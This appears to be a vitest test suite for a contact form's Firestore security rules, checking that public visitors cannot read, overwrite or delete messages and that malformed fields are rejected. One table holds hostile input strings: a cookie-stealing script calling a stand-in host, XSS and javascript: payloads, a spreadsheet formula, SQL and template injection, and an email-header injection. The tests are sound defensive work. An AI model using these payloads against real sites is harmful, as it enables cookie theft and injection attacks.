import { describe, expect, it } from "vitest";
import type { Role } from "../world.ts";
import {
  commit,
  firestore,
  map,
  MESSAGE,
  nameOf,
  newMessage,
  read,
  remove,
  type Request,
  serverTime,
  set,
  text,
  time,
  update,
  verify,
} from "./wire.ts";
import { AS_MALFORMED, BY_RULES, worldOfTests } from "./world-under-attack.ts";

const world = worldOfTests();

const NEW = "contactMessages/new-message";
const OLD = "contactMessages/message";
const TIMED = { updateTransforms: [serverTime("timestamp")] };
const withFields = (fields: object): Request => commit(newMessage(fields));

it("a visitor may write a message (what the attacks below are made from)", async () => {
  expect(await world.attack("public", commit(newMessage()))).toMatchObject({
    status: 200,
    changed: [NEW],
  });
});

describe("a visitor's message", () => {
  it.each<[string, Request]>([
    ["has a field that is called constructor", withFields({ constructor: text("x") })],
    ["has a field below a field", withFields({ name: map({ first: text("x") }) })],
    ["has a name of a million letters", withFields({ name: text("x".repeat(1_000_000)) })],
    ["has half a million letters", withFields({ message: text("é".repeat(500_000)) })],
    ["has an email without a place", withFields({ email: text("somebody@") })],
    ["has an email without a name", withFields({ email: text("@x.example") })],
    ["has two emails", withFields({ email: text("a@x.example,b@y.example") })],
    ["has an email with a line that ends", withFields({ email: text("a@x.example\nBcc: b@y") })],
    [
      "has an email with a break of another kind",
      withFields({ email: text("a@x.example\u2028b") }),
    ],
    ["has an email with a tab that is upright", withFields({ email: text("a@x.example\u000Bb") })],
    ["has an email that takes a slow search", withFields({ email: text("@".repeat(200)) })],
    [
      "is of what the visitor takes for now",
      withFields({ timestamp: time(new Date().toISOString()) }),
    ],
    [
      "has a time for a name, too",
      commit({ ...newMessage(), updateTransforms: [serverTime("timestamp"), serverTime("name")] }),
    ],
    [
      "has the time of the server where nothing is",
      commit({ ...newMessage(), updateTransforms: [serverTime("timestamp.at")] }),
    ],
    [
      "has its time twice",
      commit({
        ...newMessage(),
        updateTransforms: [serverTime("timestamp"), serverTime("savedAt")],
      }),
    ],
    ["lies below another", commit(set(`${OLD}/replies/reply`, MESSAGE, TIMED))],
    ["lies in a collection of another case", commit(set("contactmessages/new", MESSAGE, TIMED))],
  ])("%s", async (_name, request) => {
    expect(await world.attack("public", request)).toEqual(BY_RULES);
  });

  it.each<[string, Request]>([
    ["has a prototype", withFields(Object(JSON.parse('{"__proto__":{"stringValue":"x"}}')))],
    ["has a field without a name", withFields({ "": text("x") })],
    ["has a name as bare text", withFields({ name: "Somebody" })],
    ["has half a letter in its id", commit(newMessage({}, "\uD800"))],
    // A lone surrogate: `encodeURIComponent`, which the inbox needs for a link to the address, would throw.
    ["has half a letter in its email", withFields({ email: text("\uD800@x.example") })],
    ["has half a letter in its name", withFields({ name: text("a\uDFFFb") })],
    ["has half a letter in its text", withFields({ message: text("\uD83D") })],
    ["has a reserved id", commit(newMessage({}, "__id__"))],
    ["has an id that goes up", commit(newMessage({}, ".."))],
    ["has an id that goes on", commit(newMessage({}, "a/b"))],
  ])("%s (malformed)", async (_name, request) => {
    expect(await world.attack("public", request)).toEqual(AS_MALFORMED);
  });

  it.each([
    ["a script", "<script>fetch('//x.example/'+document.cookie)</script>"],
    ["an image that fails", '<img src=x onerror="alert(1)">'],
    ["a link that runs", "javascript:alert(1)"],
    ["a formula", '=HYPERLINK("https://x.example","x")'],
    ["text that runs backwards", "\u202Etxt.exe"],
    ["a query", "'; DROP TABLE clients; --"],
    ["a template", "{{constructor.constructor('alert(1)')()}}${7*7}"],
    ["the name of the prototype", "__proto__"],
    ["a zero byte", "a\u0000b"],
  ])("is %s, and is stored as the text it is, for the coach alone", async (_name, content) => {
    const { status, changed, defects } = await world.attack(
      "public",
      withFields({ name: text(content), message: text(content) }),
    );
    expect({ status, changed, defects }).toEqual({ status: 200, changed: [NEW], defects: [] });
    const stored = await world.backend.stored(nameOf(NEW));
    expect(stored?.fields).toEqual({
      ...MESSAGE,
      name: text(content),
      message: text(content),
      timestamp: time(stored?.updateTime ?? ""),
    });
    expect(await world.attack("public", read(NEW))).toEqual(BY_RULES);
  });
});

describe("a visitor who has written", () => {
  const CHANGES: readonly (readonly [string, Request])[] = [
    ["reads the message back", read(NEW)],
    ["lists the messages with her own email", listOwn()],
    ["verifies that the message is there", commit(verify(NEW))],
    ["writes it once more", commit(newMessage())],
    ["replaces it", commit(newMessage({ message: text("Something else") }))],
    [
      "renews its time",
      commit(update(NEW, {}, [], { updateTransforms: [serverTime("timestamp")] })),
    ],
    ["deletes it", commit(remove(NEW))],
    ["deletes it, and writes another in its place", commit(remove(NEW), newMessage())],
  ];

  it.each(CHANGES)("%s", async (_name, request) => {
    for (const who of ["public", "client"] satisfies readonly Role[]) {
      await world.send(who, commit(newMessage()));
      expect(await world.attack(who, request)).toEqual(BY_RULES);
    }
  });
});

describe("a visitor who wants another's message", () => {
  it.each<[string, Request]>([
    ["reads it", read(OLD)],
    ["writes over it", commit(newMessage({}, "message"))],
    [
      "merges into it",
      commit({ ...newMessage({}, "message"), updateMask: { fieldPaths: ["message"] } }),
    ],
    ["deletes it", commit(remove(OLD))],
    [
      "deletes all she can think of",
      commit(remove(OLD), remove("contactMessages/1"), remove("contactMessages/2")),
    ],
  ])("%s", async (_name, request) => {
    expect(await world.attack("public", request)).toEqual(BY_RULES);
    expect(await world.attack("client", request)).toEqual(BY_RULES);
  });
});

function listOwn(): Request {
  const value = MESSAGE.email;
  const where = { fieldFilter: { field: { fieldPath: "email" }, op: "EQUAL", value } };
  return firestore(":runQuery", {
    structuredQuery: { from: [{ collectionId: "contactMessages" }], where },
  });
}
